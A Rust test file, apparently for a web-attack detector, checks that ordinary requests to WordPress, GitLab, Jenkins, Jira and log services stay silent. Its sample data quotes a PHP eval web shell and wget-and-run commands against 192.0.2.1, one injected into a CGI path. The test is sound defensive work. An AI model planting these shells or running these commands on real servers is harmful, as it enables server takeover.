//! What sites and services do all day.

use crate::messages::{SHELL, answer, base64, file, form, get, noise, percent, post, request};
use crate::table::{NOTHING, Table};

#[test]
fn ordinary_sites_stay_silent() {
    let mut table = Table::default();
    let ok = answer("application/json", b"{\"ok\":true}");
    let with = |start: &str, fields: &str, body: &[u8]| request(start, fields, body);
    let session = "Cookie: wordpress_logged_in_1=a\r\nX-WP-Nonce: b\r\nContent-Type: application/json\r\n";
    let quoted = br#"{"title":"x.php","content":"<pre><?php eval($_POST[\"x\"]); ?></pre> is what we found in wp-content/uploads/x.php on the client site, so please check that your server does not have it."}"#;
    table.web("a post that quotes a shell", NOTHING, None, &with("POST /wp-json/wp/v2/posts/7", session, quoted), &ok);
    let theme = format!(
        "newcontent={}&file=footer.php&theme=t",
        percent("<?php\n?><footer><?php echo esc_html($_GET['s']); wp_footer(); ?></footer>")
    );
    let cookie = "Cookie: wordpress_logged_in_1=a\r\nContent-Type: application/x-www-form-urlencoded\r\n";
    table.web("a theme's editor", NOTHING, None, &with("POST /wp-admin/admin-ajax.php", cookie, theme.as_bytes()), &ok);
    let commit = br#"{"actions":[{"action":"create","file_path":"src/Process.php","content":"<?php class Process { function run($c) { return proc_open($c, $d, $p); } }"}]}"#;
    table.web(
        "a commit",
        NOTHING,
        None,
        &with("POST /api/v4/projects/7/repository/commits", "PRIVATE-TOKEN: x\r\nContent-Type: application/json\r\n", commit),
        &ok,
    );
    let build = br#"<project><builders><Shell><command>cd /tmp &amp;&amp; wget http://mirror.vendor.example/tool.sh &amp;&amp; sh tool.sh</command></Shell></builders></project>"#;
    let operator = "Authorization: Basic YTpi\r\nJenkins-Crumb: x\r\nContent-Type: application/xml\r\n";
    table.web("a build", NOTHING, None, &with("POST /job/a/config.xml", operator, build), &ok);
    let comment = br#"{"body":"{code}cd /tmp; wget http://192.0.2.1/bins.sh; chmod 777 bins.sh; sh bins.sh{code}"}"#;
    table.web("a comment that shows what was run", NOTHING, None, &post("/rest/api/2/issue/7/comment", "application/json", comment), &ok);
    let script = b"<?php\nrequire 'vendor/autoload.php';\n(new App)->handle($_SERVER['REQUEST_URI']);";
    table.web(
        "an artifact",
        NOTHING,
        None,
        &with("PUT /artifactory/a/index.php", "X-JFrog-Art-Api: x\r\n", script),
        &answer("text/plain", b"ok"),
    );
    let log = br#"{"streams":[{"values":[["1","192.0.2.9 - - \"GET /cgi-bin/;a=$(wget http://192.0.2.1/a -O-|sh) HTTP/1.1\" 404"]]}]}"#;
    table.web("a log", NOTHING, None, &post("/loki/api/v1/push", "application/json", log), &ok);
    table.web(
        "a speed test",
        NOTHING,
        None,
        &post("/speedtest/upload.php?r=0.1", "application/octet-stream", &noise(4000)),
        &answer("text/plain", b"size=4000"),
    );
    table.web(
        "a callback",
        NOTHING,
        None,
        &form("/notify.php", &format!("status=OK&sign={}", percent(&base64(&noise(256))))),
        &answer("text/plain", b"success"),
    );
    let state = format!("__VIEWSTATE={}&x=1", percent(&base64(&noise(1200))));
    table.web("a view's state", NOTHING, None, &form("/default.aspx", &state), &answer("text/html", b"<html>ok</html>"));
    table.web(
        "a picture with a tag by chance",
        NOTHING,
        None,
        &file("a.jpg", &[b"\xff\xd8\xff\xe0".to_vec(), noise(300), b"<?=".to_vec(), noise(900)].concat()),
        &ok,
    );
    table.web("a lesson", NOTHING, None, &file("lesson.txt", SHELL), &ok);
    table.web("a version", NOTHING, None, &get("/a.php?v=12"), &answer("text/plain", b"deadbeefdeadbeef"));
    table.web(
        "a question",
        NOTHING,
        None,
        &form(
            "/posting.php",
            &format!(
                "message={}",
                percent("Hi, why does this not work? <?php eval($_POST['x']); ?> I saved it as test.php on my server and nothing is shown")
            ),
        ),
        &ok,
    );
    table.check();
}
